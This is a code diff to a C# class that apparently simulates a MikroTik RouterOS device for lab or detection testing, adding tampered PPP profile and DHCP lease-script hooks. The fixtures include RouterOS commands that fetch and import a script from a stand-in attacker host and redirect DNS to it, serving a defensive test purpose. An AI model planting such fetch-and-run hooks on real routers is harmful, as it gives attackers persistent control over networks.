@@ -172,6 +172,15 @@ public sealed class RouterOsTwin : ILabTwin
                     s.Files.Add(RouterOsTwinState.FileRow(NextSerial(s.Files), "flash/routeros-arm64-7.20.8.npk", "package", null));
                     s.Files.Add(RouterOsTwinState.FileRow(NextSerial(s.Files), "flash/dns.auto.rsc", "script", "/ip dns set servers=" + RouterOsTwinState.AttackerHost + "\n"));
                     break;
+                case TwinChanges.EventScriptFetch:
+                    // A PPP profile's on-up script: runs whenever a PPP (PPPoE, L2TP, SSTP) link comes up, outside the scheduler.
+                    s.PppProfiles.First(p => p["name"] == "default")["on-up"] =
+                        $"/tool fetch url=\"http://{RouterOsTwinState.AttackerHost}/u.rsc\" dst-path=u.rsc\n/import u.rsc";
+                    break;
+                case TwinChanges.LeaseScript:
+                    // A DHCP server's lease script: runs on every lease a LAN client gets (a hidden hook, even without a download).
+                    s.DhcpServers.First(d => d["name"] == "defconf")["lease-script"] = ":if ($leaseBound = 1) do={ /ip firewall address-list add list=seen address=$leaseActIP }";
+                    break;
                 case TwinChanges.NetwatchFetch:
                     s.Netwatch.Add(new Row(NextSerial(s.Netwatch), ("host", "198.51.100.1"), ("type", "simple"), ("interval", "10m"), ("timeout", "1s"),
                         ("up-script", $"/tool fetch url=\"https://{RouterOsTwinState.AttackerHost}/s\" output=none"), ("down-script", ""), ("test-script", ""),
@@ -615,6 +624,7 @@ public sealed class RouterOsTwin : ILabTwin
             "ip/dhcp-server/network", "ip/firewall/mangle", "ip/firewall/raw", "ip/route", "routing/rule", "ip/proxy/access", "ip/socks/access", "ip/traffic-flow/target",
             "ip/ipsec/peer", "ip/ipsec/identity", "container", "certificate", "system/logging",
             "ip/firewall/address-list", "ipv6/firewall/filter", "ipv6/firewall/nat", "ipv6/firewall/address-list", "ipv6/route", "radius",
+            "ppp/profile", "ip/dhcp-server",
         })
         {
             if (menu.StartsWith(list + "/*", StringComparison.Ordinal))
@@ -888,8 +898,15 @@ public sealed class RouterOsTwin : ILabTwin
                 [
                     Fields((".id", "*" + (1 + s.IdShift).ToString("X", CultureInfo.InvariantCulture)), ("add-default-route", "yes"), ("address", "198.51.100.77/24"), ("dhcp-server", "198.51.100.1"),
                         ("disabled", "false"), ("dynamic", "false"), ("expires-after", RouterOsTwinState.Duration(TimeSpan.FromMinutes(30) - TimeSpan.FromSeconds(counter % 1800))),
-                        ("gateway", "198.51.100.1"), ("interface", "ether1"), ("primary-dns", s.Dns["dynamic-servers"]), ("status", "bound"), ("use-peer-dns", "yes"), ("use-peer-ntp", "yes")),
+                        ("gateway", "198.51.100.1"), ("interface", "ether1"), ("primary-dns", s.Dns["dynamic-servers"]), ("script", s.DhcpClientScript), ("status", "bound"),
+                        ("use-peer-dns", "yes"), ("use-peer-ntp", "yes")),
                 ];
+                break;
+            case "ppp/profile":
+                rows = Rows(s, s.PppProfiles, null);
+                break;
+            case "ip/dhcp-server":
+                rows = Rows(s, s.DhcpServers, null);
                 break;
             default:
                 return null;
@@ -955,7 +972,7 @@ public sealed class RouterOsTwin : ILabTwin
             else if (v == "false") r[key] = "no";
             else if (key is "address" or "servers" or "dynamic-servers" or "gateway" or "dns-server" or "allowed-interface-list" or "topics" && v.Length > 0) r[key] = " " + string.Join(" , ", v.Split(',')).ToUpperInvariant() + " ";
             else if (key is "key-type" or "protocol" or "auth-method") r[key] = v.ToUpperInvariant();
-            else if (key is "source" or "on-event") r[key] = "  " + v.Replace("\n", "  \r\n\t", StringComparison.Ordinal) + " \r\n";
+            else if (key is "source" or "on-event" or "on-up" or "on-down" or "lease-script" or "script" && v.Length > 0) r[key] = "  " + v.Replace("\n", "  \r\n\t", StringComparison.Ordinal) + " \r\n";
             else if (key is "port" or "to-addresses" or "to-ports" or "dst-port") r[key] = " " + v + " ";
         }
     }
